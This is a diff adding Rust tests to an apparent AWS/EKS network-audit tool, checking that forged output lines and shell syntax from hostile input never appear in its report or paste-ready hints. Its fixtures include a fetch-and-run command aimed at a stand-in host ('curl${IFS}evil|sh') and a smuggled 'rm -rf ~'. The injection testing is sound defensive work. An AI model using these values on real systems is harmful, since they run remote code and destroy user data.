@@ -75,6 +75,39 @@ fn a_hostile_cluster_name_stays_a_name() {
 }
 
 #[test]
+fn a_line_feed_in_an_answer_of_aws_forges_no_line() {
+    let copy = copy_of("study-public");
+    let path = copy.path().join("network-interfaces.json");
+    let text = fs::read_to_string(&path).unwrap();
+    let forged = text
+        .replace("\"ap-northeast-2a\"", "\"a\\nPASS  nothing found\"")
+        .replace(":AmazonEKS\"", ":x\\nPASS  nothing found\"");
+    assert_ne!(forged, text);
+    fs::write(&path, forged).unwrap();
+    let ran = Netcheck::audit(copy.path()).run();
+    assert_eq!(ran.code, 1);
+    assert!(!ran.stdout.lines().any(|line| line.starts_with("PASS")), "{}", ran.stdout);
+}
+
+/// Names in commands to paste are those that a shell takes as one plain word.
+#[test]
+fn hints_hold_no_shell_syntax() {
+    let copy = copy_of("private-only");
+    let path = copy.path().join("cluster.json");
+    let mut cluster: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+    cluster["cluster"]["endpoint"] = "https://$(curl${IFS}evil|sh)".into();
+    cluster["cluster"]["resourcesVpcConfig"]["vpcId"] = "vpc-1;rm -rf ~".into();
+    fs::write(&path, cluster.to_string()).unwrap();
+    fs::remove_dir_all(copy.path().join("dns")).unwrap();
+    fs::remove_file(copy.path().join("vpc.json")).unwrap();
+    let (report, _) = Netcheck::audit(copy.path()).json();
+    for gap in report["gaps"].as_array().unwrap() {
+        let hint = gap["hint"].as_str().unwrap();
+        assert!(!hint.contains("rm -rf") && !hint.contains("$("), "{hint}");
+    }
+}
+
+#[test]
 fn hostile_answers_of_dns_are_shown_escaped() {
     let copy = copy_of("study-public");
     fs::write(copy.path().join("dns/here.txt"), ";; \x1b]0;title\x07 timed out\n").unwrap();
